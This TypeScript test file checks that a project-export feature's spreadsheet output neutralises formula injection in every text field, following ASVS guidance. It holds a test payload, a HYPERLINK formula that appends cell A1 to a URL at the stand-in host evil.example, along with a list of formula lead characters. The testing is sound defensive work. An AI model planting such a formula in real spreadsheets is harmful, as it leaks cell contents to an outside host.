import { type Cell, openXlsx } from "hucre/xlsx";
import { afterAll, beforeAll, expect, test } from "vitest";
import { exportProjects } from "../../src/app/export-projects.ts";
import { contract } from "../../src/contract/contract.ts";
import { readWorkbook } from "../../src/files/sheet/read-workbook.ts";
import { type TestLedger, enter, openTestLedger, valueOf } from "../harness/ledger.ts";
import { hasOffice, savedBy } from "../../bench/office.ts";
import { isLong, tell } from "../harness/runs.ts";
import { type Towns, makeTowns, state, stated } from "../harness/towns.ts";

/** What a spreadsheet may take for the beginning of a formula, half width and full width. Source: ASVS 5.0 1.2.10. */
const leads = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠"];
const formula = `HYPERLINK("http://evil.example/?"&A1,"x")`;
const district = "towns";
let ledger: TestLedger;
let towns: Towns;

beforeAll(async () => {
  ledger = await openTestLedger("bare");
  towns = await makeTowns(ledger);
});
afterAll(() => ledger.close());

type Found = { readonly text: string; readonly formula: boolean; readonly number: boolean };

/** Every cell of a workbook's visible sheets, as this program reads it. */
async function cellsOf(bytes: Uint8Array): Promise<Found[]> {
  const book = valueOf(await readWorkbook({ name: "x.xlsx", bytes }));
  return book.sheets
    .filter(({ hidden }) => !hidden)
    .flatMap(({ rows }) => rows.flatMap(({ cells }) => [...cells]))
    .flatMap((cell) =>
      cell
        ? [
            {
              text: cell.text,
              formula: cell.formula !== undefined,
              number: cell.number !== undefined,
            },
          ]
        : [],
    );
}

async function formulasIn(bytes: Uint8Array): Promise<Cell[]> {
  const { sheets } = await openXlsx(bytes);
  return sheets.flatMap(({ cells }) =>
    [...(cells?.values() ?? [])].filter((cell) => cell.formula !== undefined),
  );
}

test("there is no export that a spreadsheet would read as text and guess at", () => {
  const kinds = new Set(Object.values(contract).map(({ reply }) => reply));
  expect([...kinds].toSorted()).toEqual(["docx", "file", "json", "jsonl", "xlsx"]);
});

test("bar 27: whatever text leads with, in every text field of an export, nothing of it runs, and negatives stay numbers", async () => {
  const office = await enter(ledger, "t-office", district);
  const texts = office.rules.attributes.filter(({ value }) => value === "text");
  const columns = [...texts.map(({ id }) => id), "totalInvestment"].join(",");
  const counts = { fields: texts.length, leads: leads.length, cells: 0, formulas: 0, opened: 0 };
  const town = await enter(ledger, "t-jia", district);
  const minus = { amount: "-500000000.00", currency: "CNY", qualifier: "exact" } as const;
  await state(town, [stated({ subject: towns.jia, value: minus })]);
  for (const lead of leads) {
    const value = `${lead}${formula}`;
    for (const { id, timing } of texts)
      await state(town, [
        stated({
          subject: towns.jia,
          attribute: id,
          kind: "actual",
          value,
          ...(timing === "flow" ? { period: "2024-01" } : {}),
        }),
      ]);
    const bytes = valueOf(await exportProjects(office, { district, columns, language: "zh" }));
    const written = (await cellsOf(bytes)).filter(({ text }) => text.includes("HYPERLINK"));
    expect(written.length).toBeGreaterThanOrEqual(texts.length);
    expect(await formulasIn(bytes)).toEqual([]);
    counts.cells += written.length;
    const minus = (await cellsOf(bytes)).filter(({ text }) => text === "-5");
    expect(minus).toEqual([{ text: "-5", formula: false, number: true }]);
    if (!isLong || !hasOffice) continue;
    // What LibreOffice took for a formula it saves as one.
    const opened = await savedBy(bytes, "xlsx", "xlsx:Calc MS Excel 2007 XML");
    expect(await formulasIn(opened)).toEqual([]);
    const read = await cellsOf(opened);
    expect(read.filter(({ text }) => text.includes("HYPERLINK"))).toHaveLength(written.length);
    expect(read.filter(({ text, number }) => text === "-5" && number)).toHaveLength(1);
    counts.opened += 1;
  }
  tell("bar 27", counts);
}, 900_000);
